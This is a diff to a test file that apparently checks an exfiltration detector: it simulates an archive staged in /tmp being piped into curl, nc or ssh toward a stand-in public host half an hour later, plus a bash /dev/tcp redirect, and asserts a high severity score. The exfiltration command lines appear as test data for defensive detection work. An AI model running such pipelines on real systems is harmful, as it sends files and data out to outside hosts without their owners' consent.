@@ -44,6 +44,27 @@ def test_an_upload_later_that_names_the_archive(
 
 @pytest.mark.parametrize("fmt", ALL)
 @pytest.mark.parametrize(
+    "pipeline",
+    [
+        f"cat /tmp/a.tgz | curl -T - https://{PUBLIC}/",
+        f"dd if=/tmp/a.tgz bs=1M | nc {PUBLIC} 443",
+        f"pv -q /tmp/a.tgz | ssh u@{PUBLIC} 'cat > a'",
+    ],
+)
+def test_an_upload_later_fed_by_a_reader_of_the_archive_names_it(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, pipeline: str
+) -> None:
+    # Half an hour later, past the staging window: the uploader reads stdin, and the reader
+    # piping into it names the archive.
+    trace = staged()
+    trace.run(1800, "/bin/sh", "-c", pipeline)
+    uploader = trace.run(1800.1, *pipeline.split("| ", 1)[1].split(" ")[:3])
+    trace.send(1800.3, uploader, PUBLIC, 5_000_000)
+    assert severity(capsys, trace.write(tmp_path, fmt)) >= 4
+
+
+@pytest.mark.parametrize("fmt", ALL)
+@pytest.mark.parametrize(
     ("argv", "least"),
     [
         (("/bin/bash", "-c", f"cat /tmp/a.tgz > /dev/tcp/{PUBLIC}/443"), 4),
